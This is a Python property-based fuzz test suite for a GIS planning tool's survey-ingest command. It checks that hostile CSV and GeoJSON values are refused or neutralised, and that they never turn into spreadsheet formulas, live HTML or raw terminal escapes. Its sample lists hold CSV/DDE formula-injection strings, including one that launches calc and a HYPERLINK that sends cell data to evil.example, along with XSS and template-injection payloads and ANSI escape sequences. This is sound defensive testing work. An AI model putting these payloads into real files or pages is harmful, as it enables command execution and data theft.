"""Property-based fuzzing of the ingest path (hypothesis): hostile values, field names and geometries.

Each example writes a small survey file (CSV with WKT, or GeoJSON with typed
values) and loads it through the real ``planner ingest`` command into a copy
of a small workspace. The properties:

- ingest either refuses (exit 2, a message naming the file, no traceback, the
  workspace's content fingerprint unchanged) or publishes parcels whose every
  value is within its field's rules (``schema.validate``, finite numbers
  within :data:`planner.ingest.mapping.MAX_VALUES`, polygonal valid 2D
  geometry);
- nothing ingested becomes a formula in a CSV or Excel export, or live HTML
  in a map tooltip or an HTML table.

The default run tries a few examples per property (``max_examples=25``); the
``slow`` variants try many more (``make test ARGS="-m slow"``).
"""

from __future__ import annotations

import contextlib
import io
import json
import math
import re
import shutil
import tempfile
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import shapely

hypothesis = pytest.importorskip("hypothesis")
from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from planner import schema  # noqa: E402
from planner.cli import main  # noqa: E402
from planner.ingest.mapping import MAX_VALUES  # noqa: E402
from planner.io.fingerprint import content_fingerprint  # noqa: E402
from planner.io.store import GpkgStore  # noqa: E402
from planner.io.writers import FORMULA_START, neutralize, neutralize_frame  # noqa: E402
from tests.conftest import box_grid  # noqa: E402

X0, Y0 = 500_000.0, 2_740_000.0
FAST = settings(max_examples=25, deadline=None, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
SLOW = settings(max_examples=300, deadline=None, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])

# -- hostile values ------------------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "=1+1", "\t=1+1", "\r=1+1", " =1+1", "＝1+1"]
MARKUP = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
          "</td><b>bold</b>", "&lt;escaped&gt;", "javascript:alert(1)", "{{7*7}}", "${7*7}"]
ODD = ["\u202e厂房\u202c", "\u200b", "a\u0000b", "\x1b[31mred", "line\nbreak", "tab\there", "\ufeffBOM",
       "厂房-1", "", "   ", "NULL", "None", "nan", "-", "/", "无"]
NUMBER_TEXT = ["1,234.5", "1，234", "3万", "2.5亿", "1e400", "-1e400", "inf", "-inf", "NaN", "1e308", "-0",
               "0x1F", "１２３", "12 345", "1_000", "+5", "5-", "--5", "1e-400", "٣"]


def hostile_text(max_size: int = 60):
    return st.one_of(st.sampled_from(FORMULAS + MARKUP + ODD + NUMBER_TEXT),
                     st.text(max_size=max_size),
                     st.builds(lambda a, b: a + b, st.sampled_from(FORMULAS + MARKUP), st.text(max_size=8)),
                     st.just("长" * 5000))


def hostile_number():
    return st.one_of(st.floats(allow_nan=True, allow_infinity=True),
                     st.sampled_from([0.0, -0.0, -1.0, 1e12, 1e300, -1e300, 2.0 ** 53 + 1, 5e-324]),
                     st.integers(min_value=-(2 ** 63), max_value=2 ** 63 - 1))


# -- hostile geometries (WKT) --------------------------------------------------------------------------
def square(i: int, size: float = 50.0) -> str:
    x = X0 + i * size
    return f"POLYGON (({x} {Y0}, {x} {Y0 + size}, {x + size} {Y0 + size}, {x + size} {Y0}, {x} {Y0}))"


def hostile_wkt(i: int):
    x = X0 + i * 50.0
    return st.sampled_from([
        square(i),
        "POLYGON EMPTY",
        "GEOMETRYCOLLECTION EMPTY",
        f"POLYGON (({x} {Y0}, {x + 50} {Y0 + 50}, {x + 50} {Y0}, {x} {Y0 + 50}, {x} {Y0}))",  # bow tie
        f"POLYGON Z (({x} {Y0} 5, {x} {Y0 + 50} 5, {x + 50} {Y0 + 50} 5, {x + 50} {Y0} 5, {x} {Y0} 5))",
        f"POLYGON M (({x} {Y0} 1, {x} {Y0 + 50} 1, {x + 50} {Y0 + 50} 1, {x + 50} {Y0} 1, {x} {Y0} 1))",
        f"MULTIPOLYGON ((({x} {Y0}, {x} {Y0 + 20}, {x + 20} {Y0 + 20}, {x + 20} {Y0}, {x} {Y0})), "
        f"(({x + 30} {Y0}, {x + 30} {Y0 + 20}, {x + 50} {Y0 + 20}, {x + 50} {Y0}, {x + 30} {Y0})))",
        f"GEOMETRYCOLLECTION ({square(i)}, POINT ({x} {Y0}))",
        f"POINT ({x} {Y0})",
        f"LINESTRING ({x} {Y0}, {x + 50} {Y0})",
        f"POLYGON (({x} {Y0}, {x} {Y0}, {x} {Y0}, {x} {Y0}))",  # zero area
        "POLYGON ((1e300 1e300, 1e300 2e300, 2e300 2e300, 2e300 1e300, 1e300 1e300))",
        "POLYGON ((118.5 24.7, 118.5 24.71, 118.51 24.71, 118.51 24.7, 118.5 24.7))",  # degrees in a metric layer
        f"POLYGON (({x} {Y0}, {x} nan, {x + 50} {Y0}, {x} {Y0}))",
        "not a geometry",
        "",
    ])


# -- the workspace and the command ----------------------------------------------------------------------
@pytest.fixture(scope="module")
def base_ws(tmp_path_factory) -> Path:
    """A workspace with a 3 x 3 survey at X0, Y0 (ids r0c0..r2c2)."""
    path = tmp_path_factory.mktemp("fuzz") / "base.gpkg"
    ws = GpkgStore(path, crs="EPSG:4549", create=True)
    ws.publish_survey(box_grid(3, 3), label="base", user="gis")
    return path


@pytest.fixture(scope="module")
def base_fingerprint(base_ws) -> dict:
    return content_fingerprint(str(base_ws))


def run_cli(argv: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        rc = main([str(a) for a in argv])
    return rc, out.getvalue(), err.getvalue()


def check_ingest(survey: Path, base_ws: Path, base_fingerprint: dict, *extra: str):
    """Ingest ``survey`` into a copy of the base workspace; assert the properties; return the published
    parcels (None when refused)."""
    d = Path(tempfile.mkdtemp(prefix="fuzz-ws-"))
    try:
        ws = d / "ws.gpkg"
        shutil.copyfile(base_ws, ws)
        rc, out, err = run_cli(["ingest", survey, "-w", ws, "--mode", "update", *extra])
        assert "Traceback" not in err + out, err
        assert rc in (0, 2), (rc, err)
        assert_terminal_safe(out + err)
        if rc == 2:
            assert survey.name in err or "mapping" in err, err
            assert content_fingerprint(str(ws)) == base_fingerprint, err
            return None
        parcels = GpkgStore(ws).read_parcels()
        check_rules(parcels)
        return parcels
    finally:
        shutil.rmtree(d, ignore_errors=True)


def assert_terminal_safe(text: str) -> None:
    """What a command prints holds no control or format character from the data (ESC, CR, NUL, bidi marks)."""
    import unicodedata

    bad = sorted({c for c in text if c not in "\n\t" and unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")})
    assert not bad, [hex(ord(c)) for c in bad]


def check_rules(p) -> None:
    """Every published value within its field's rules."""
    schema.validate(p)
    assert p.crs.is_projected
    geoms = np.asarray(p.geometry.values, dtype=object)
    assert not shapely.is_empty(geoms).any()
    assert shapely.is_valid(geoms).all()
    assert not shapely.has_z(geoms).any()
    assert set(shapely.get_type_id(geoms).tolist()) <= {3, 6}
    area = shapely.area(geoms)
    assert np.isfinite(area).all() and (area > 0).all()
    for f in schema.FIELDS:
        if f.kind != "float" or f.name not in p.columns:
            continue
        v = p[f.name].to_numpy(dtype=float, na_value=np.nan)
        known = v[~np.isnan(v)]
        assert np.isfinite(known).all(), (f.name, known)
        assert (known >= 0).all(), (f.name, known)
        if f.name in MAX_VALUES:
            assert (known <= MAX_VALUES[f.name]).all(), (f.name, known)
    if p["year_built"].notna().any():
        y = p["year_built"].dropna()
        assert ((y >= 1900) & (y <= 2100)).all()
    pr = (p["floor_area_m2"] / p["land_area_m2"]).dropna()
    assert (pr <= 20 * 1.0001).all()


def check_exports(p) -> None:
    """No ingested text becomes a formula in a CSV/Excel export or live markup in a tooltip or HTML table."""
    from planner import maps
    from planner.report.excel import table_to_excel

    table = pd.DataFrame(p.drop(columns="geometry"))
    safe = neutralize_frame(table)
    for c in safe.columns:
        for v in safe[c].dropna():
            if isinstance(v, str):
                assert not v.startswith(FORMULA_START) or re.fullmatch(r"[+-]?[\d.,]+(e[+-]?\d+)?%?", v, re.I), v
    # the CSV a command writes, read back as a spreadsheet reads it
    buf = io.StringIO()
    safe.to_csv(buf, index=False)
    for row in pd.read_csv(io.StringIO(buf.getvalue()), dtype=str, keep_default_na=False).itertuples(index=False):
        for v in row:
            assert not str(v).startswith(("=", "@")), v
    # Excel: every text cell is a string cell, never a formula
    with tempfile.TemporaryDirectory() as d:
        x = table_to_excel(table, Path(d) / "t.xlsx")
        with zipfile.ZipFile(x) as zf:
            sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
            for n in sheets:
                assert "<f>" not in zf.read(n).decode("utf-8"), "a formula cell in the workbook"
    # folium tooltip: the property values shown are escaped text
    g = p.to_crs(4326)
    layer = maps.geojson_layer(g.assign(_c="#ff0000"), "parcels", tooltip={"owner": "owner", "parcel_id": "id"})
    import folium

    m = folium.Map()
    layer.add_to(m)
    page = m.get_root().render()
    for col in ("owner", "parcel_id"):
        for v in g[col].dropna():
            if "<" in v and len(v) >= 8:  # markup from the data never reaches the page as markup
                assert v not in page, v


# -- the properties ---------------------------------------------------------------------------------------
def csv_survey(path: Path, ids, owners, areas, floors, years, wkts, header=("ZDDM", "QLR", "ZDMJ", "JZMJ", "JCNF")
               ) -> Path:
    """A CSV as Excel writes it (CRLF rows: a field holding a line break or a CR is quoted)."""
    df = pd.DataFrame({header[0]: ids, header[1]: owners, header[2]: areas, header[3]: floors, header[4]: years,
                       "WKT": wkts})
    df.to_csv(path, index=False, encoding="utf-8", lineterminator="\r\n")
    return path


def sometimes(clean, hostile):
    """Mostly the clean value, a hostile one in about a quarter of the cells (so loads also publish)."""
    return st.one_of(st.just(clean), st.just(clean), st.just(clean), hostile)


@st.composite
def csv_rows(draw, n_max: int = 6):
    n = draw(st.integers(min_value=1, max_value=n_max))
    ids = [draw(sometimes(f"Z{i}", hostile_text(20))) for i in range(n)]
    owners = [draw(hostile_text()) for _ in range(n)]
    areas = [draw(sometimes("2500", st.one_of(hostile_number().map(repr), st.sampled_from(NUMBER_TEXT))))
             for _ in range(n)]
    floors = [draw(sometimes("5000", st.one_of(hostile_number().map(repr), st.sampled_from(NUMBER_TEXT))))
              for _ in range(n)]
    years = [draw(sometimes("2001", st.one_of(st.integers(-10_000, 10_000).map(str), st.sampled_from(NUMBER_TEXT))))
             for _ in range(n)]
    wkts = [draw(sometimes(square(i), hostile_wkt(i))) for i in range(n)]
    return ids, owners, areas, floors, years, wkts


def _csv_property(rows, base_ws, base_fingerprint):
    with tempfile.TemporaryDirectory() as d:
        p = check_ingest(csv_survey(Path(d) / "survey.csv", *rows), base_ws, base_fingerprint, "--crs", "EPSG:4549")
    if p is not None:
        check_exports(p)


@FAST
@given(rows=csv_rows())
def test_csv_survey_with_hostile_values_and_geometries(rows, base_ws, base_fingerprint):
    _csv_property(rows, base_ws, base_fingerprint)


@pytest.mark.slow
@SLOW
@given(rows=csv_rows(n_max=12))
def test_csv_survey_with_hostile_values_and_geometries_many(rows, base_ws, base_fingerprint):
    _csv_property(rows, base_ws, base_fingerprint)


@st.composite
def geojson_features(draw):
    """GeoJSON with typed values (numbers stay numbers, huge ones included) and hostile property names."""
    n = draw(st.integers(min_value=1, max_value=4))
    names = {"id": "ZDDM", "owner": "QLR", "area": "ZDMJ", "tax": "NSE", "emp": "CYRS"}
    names["owner"] = draw(st.sampled_from(["QLR", "权利人", "owner", "OWNER"]))
    extra_name = draw(st.one_of(st.sampled_from(["", " ", "ZDDM ", "zddm", "宗地代码", "=cmd", "<b>x</b>", "a" * 300]),
                                st.text(max_size=12)))
    feats = []
    for i in range(n):
        props = {names["id"]: draw(sometimes(f"Z{i}", st.one_of(st.integers(-5, 2 ** 60), hostile_text(20)))),
                 names["owner"]: draw(st.one_of(hostile_text(), st.none())),
                 names["area"]: draw(sometimes(2500.0, st.one_of(hostile_number(), st.sampled_from(NUMBER_TEXT),
                                                                 st.none()))),
                 names["tax"]: draw(sometimes(12.5, st.one_of(hostile_number(), st.none()))),
                 names["emp"]: draw(sometimes(40, st.one_of(hostile_number(), st.none())))}
        if extra_name and extra_name not in props:
            props[extra_name] = draw(hostile_text(20))
        x = X0 + i * 50
        plain = {"type": "Polygon", "coordinates": [[[x, Y0], [x, Y0 + 50], [x + 50, Y0 + 50], [x + 50, Y0], [x, Y0]]]}
        geom = draw(sometimes(plain, st.sampled_from([
            {"type": "Polygon", "coordinates": [[[x, Y0, 3], [x, Y0 + 50, 3], [x + 50, Y0 + 50, 3], [x + 50, Y0, 3],
                                                 [x, Y0, 3]]]},
            {"type": "MultiPolygon", "coordinates": [[[[x, Y0], [x, Y0 + 50], [x + 50, Y0 + 50], [x + 50, Y0],
                                                       [x, Y0]]]]},
            {"type": "Point", "coordinates": [x, Y0]},
            {"type": "GeometryCollection", "geometries": []},
            {"type": "Polygon", "coordinates": []},
            None,
        ])))
        feats.append({"type": "Feature", "properties": props, "geometry": geom})
    return {"type": "FeatureCollection",
            "crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::4549"}},
            "features": feats}


def _json(obj) -> str:
    """JSON as GDAL reads it: NaN and infinities written as the tokens JavaScript and GDAL accept."""
    return json.dumps(obj, ensure_ascii=False, allow_nan=True)


@FAST
@given(fc=geojson_features())
def test_geojson_survey_with_typed_hostile_values(fc, base_ws, base_fingerprint):
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "survey.geojson"
        path.write_text(_json(fc), encoding="utf-8")
        p = check_ingest(path, base_ws, base_fingerprint)
    if p is not None:
        check_exports(p)


@FAST
@given(names=st.lists(st.one_of(st.sampled_from(["ZDDM", "宗地代码", "zddm", "ZDDM ", "", " ", "QLR", "权利人",
                                                  "ZDMJ", "宗地面积", "=SUM(A1)", "<i>x</i>"]),
                                st.text(min_size=0, max_size=10)),
                      min_size=1, max_size=6))
def test_csv_field_names_chinese_duplicate_or_empty(names, base_ws, base_fingerprint):
    """Headers that map to one canonical field twice, are empty or hostile: a refusal or a clean load."""
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "survey.csv"
        cols = [n.replace("\n", " ").replace("\r", " ").replace('"', "") for n in names]
        lines = [",".join(f'"{c}"' for c in [*cols, "WKT"])]
        for i in range(3):
            lines.append(",".join([*(f'"Z{i}"' if j == 0 else '"2500"' for j in range(len(cols))), f'"{square(i)}"']))
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        p = check_ingest(path, base_ws, base_fingerprint, "--crs", "EPSG:4549")
    if p is not None:
        check_exports(p)


@FAST
@given(value=st.one_of(hostile_text(), hostile_number()))
def test_neutralize_leaves_no_formula(value):
    """Whatever a field holds, what a CSV/Excel writer writes does not start a formula (plain numbers aside)."""
    out = neutralize(value)
    bare = out.lstrip(" \u00a0\u3000") if isinstance(out, str) else out  # as a sheet that trims spaces reads it
    if isinstance(bare, str) and bare.startswith(FORMULA_START):
        assert re.fullmatch(r"[+-]?(?:\d+(?:[.,]\d*)*|\.\d+)(?:[eE][+-]?\d+)?%?", bare), out
    if isinstance(value, float) and math.isnan(value):
        assert math.isnan(out)


# -- what the fuzzing found, as plain regression tests -----------------------------------------------------
def test_a_surveyed_land_area_of_zero_falls_back_to_the_geometry(tmp_path, base_ws, base_fingerprint):
    """A land area of 0 (or -0.0) on a 50 m square is a placeholder: nulled and reported, the geometry's
    2,500 m² used (it was stored as 0, and a floor area of 5,000 m² on -0.0 land passed the plot-ratio check)."""
    survey = csv_survey(tmp_path / "survey.csv", ["Z0", "Z1", "Z2"], ["a", "b", "c"], ["0", "-0.0", "2500"],
                        ["5000", "5000", "5000"], ["2001", "2001", "2001"], [square(i) for i in range(3)])
    ws = tmp_path / "ws.gpkg"
    shutil.copyfile(base_ws, ws)
    rc, out, err = run_cli(["ingest", survey, "-w", ws, "--mode", "update", "--crs", "EPSG:4549"])
    assert rc == 0, err
    assert "land area 0" in out
    p = GpkgStore(ws).read_parcels().set_index("parcel_id")
    assert p.loc[["Z0", "Z1", "Z2"], "land_area_m2"].tolist() == pytest.approx([2500.0] * 3)
    assert p.loc[["Z0", "Z1", "Z2"], "floor_area_m2"].tolist() == pytest.approx([5000.0] * 3)
    assert "impossible:land_area_m2" in p.loc["Z0", "ingest_flags"]
    assert "impossible:land_area_m2" in p.loc["Z1", "ingest_flags"]
    check_rules(p.reset_index())


# -- files that lie ----------------------------------------------------------------------------------------
def lonlat_geojson_claiming_metres(path: Path, crs_name: str = "urn:ogc:def:crs:EPSG::4549") -> Path:
    """Five 50 m parcels near Jinjiang in lon/lat, whose GeoJSON ``crs`` member says a metric CRS."""
    from tests.hostile_files import parcels

    fc = json.loads(parcels(5).to_crs(4326).to_json())
    fc["crs"] = {"type": "name", "properties": {"name": crs_name}}
    path.write_text(json.dumps(fc), encoding="utf-8")
    return path


@pytest.mark.parametrize("crs_name", ["urn:ogc:def:crs:EPSG::4549", "urn:ogc:def:crs:EPSG::32650"])
def test_a_geojson_whose_metric_crs_disagrees_with_its_lonlat_coordinates_is_refused(tmp_path, base_ws,
                                                                                      base_fingerprint, crs_name):
    """It was loaded as parcels of 0.002 m across off the coast of Africa, with their surveyed areas kept
    (only a warning about the area of use); the same for `workspace init --from`."""
    src = lonlat_geojson_claiming_metres(tmp_path / "parcels.geojson", crs_name)
    ws = tmp_path / "ws.gpkg"
    shutil.copyfile(base_ws, ws)
    for argv in (["ingest", src, "-w", ws, "--mode", "replace"], ["workspace", "init", tmp_path / "new.gpkg",
                                                                   "--from", src]):
        rc, out, err = run_cli(argv)
        assert rc == 2, out + err
        assert "Traceback" not in err
        assert "parcels.geojson" in err and "look like longitude/latitude" in err and "EPSG:4490" in err, err
    assert content_fingerprint(str(ws)) == base_fingerprint
    assert not (tmp_path / "new.gpkg").exists()
    rc, out, err = run_cli(["ingest", src, "-w", ws, "--mode", "update", "--crs", "EPSG:4490"])  # what it says to do
    assert rc == 0, err


def test_a_floor_area_is_checked_against_the_land_area_it_is_stored_with(tmp_path, base_ws, base_fingerprint):
    """A negative surveyed land area is nulled and the geometry's used: the floor area is checked against that
    (104,605,287 m² of floor on -3e-177 m² of land passed the plot-ratio check and was stored on 2,500 m²)."""
    survey = csv_survey(tmp_path / "survey.csv", ["Z0", "Z1", "Z2", "Z3"], ["a", "b", "c", "d"],
                        ["-3.4372915055771676e-177", "-2500", "2500", "2500"],
                        ["104605287", "100000", "5000", "5000"], ["2001"] * 4, [square(i) for i in range(4)])
    ws = tmp_path / "ws.gpkg"
    shutil.copyfile(base_ws, ws)
    rc, out, err = run_cli(["ingest", survey, "-w", ws, "--mode", "update", "--crs", "EPSG:4549"])
    assert rc == 0, err
    p = GpkgStore(ws).read_parcels().set_index("parcel_id")
    assert p.loc[["Z0", "Z1"], "land_area_m2"].tolist() == pytest.approx([2500.0, 2500.0])
    assert p.loc[["Z0", "Z1"], "floor_area_m2"].isna().all()
    assert "impossible:floor_area_m2" in p.loc["Z0", "ingest_flags"]
    assert p.loc["Z2", "floor_area_m2"] == 5000.0
    check_rules(p.reset_index())


def test_values_and_field_names_cannot_drive_the_terminal(tmp_path, base_ws, base_fingerprint):
    """A parcel id holding ESC[2J (clear screen), a carriage return or a bidi override, and a field name with an
    escape, are printed as escapes: they reached the analyst's terminal raw in the problem table and errors."""
    survey = csv_survey(tmp_path / "survey.csv", ["Z0\x1b[2J", "Z1\rpublished as survey version 9", "Z2\u202e"],
                        ["a", "b", "c"], ["-1", "100", "100"], ["100"] * 3, ["2001"] * 3, [square(i) for i in range(3)])
    rc, out, err = run_cli(["ingest", survey, "--dry-run", "--crs", "EPSG:4549"])
    assert rc == 0, err
    assert_terminal_safe(out + err)
    assert "Z0\\x1b[2J" in out and "Z1\\x0dpublished" in out and "Z2\\u202e" in out
    bad = tmp_path / "bad.csv"
    bad.write_text('ZDDM,QLR\x1b]0;owned\x07,WKT\nZ1,a,"POINT (500000 2740000)"\n', encoding="utf-8")
    rc, out, err = run_cli(["ingest", bad, "--dry-run", "--crs", "EPSG:4549"])
    assert rc == 2 and "Point features" in err
    assert_terminal_safe(out + err)


def test_a_carriage_return_in_a_value_cannot_start_a_formula_row_in_a_csv_export(tmp_path, base_ws):
    """An owner "厂\\r=cmd|..." went into `classify --out x.csv` unquoted (pandas ends rows with \\n only): a
    spreadsheet reads the CR as a row break, so the formula started a row of its own, live."""
    import csv

    owner = "厂\r=cmd|' /C calc'!A0"  # no comma or quote: nothing else makes the writer quote it
    survey = csv_survey(tmp_path / "survey.csv", ["Z0", "Z1", "Z2"], [owner] * 3, ["2500"] * 3, ["100"] * 3,
                        ["2001"] * 3, [square(i) for i in range(3)])
    ws = tmp_path / "ws.gpkg"
    shutil.copyfile(base_ws, ws)
    rc, out, err = run_cli(["ingest", survey, "-w", ws, "--mode", "update", "--crs", "EPSG:4549"])
    assert rc == 0, err
    assert GpkgStore(ws).read_parcels().set_index("parcel_id").loc["Z0", "owner"] == owner
    dest = tmp_path / "flags.csv"
    rc, out, err = run_cli(["classify", "-w", ws, "--out", dest])
    assert rc == 0, err
    with open(dest, newline="", encoding="utf-8-sig") as fh:  # rows as a spreadsheet splits them: CR, LF, CRLF
        rows = list(csv.reader(fh))
    assert len(rows) == 1 + 9, len(rows)
    cells = [c for r in rows for c in r]
    assert "'" + owner in cells or owner in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
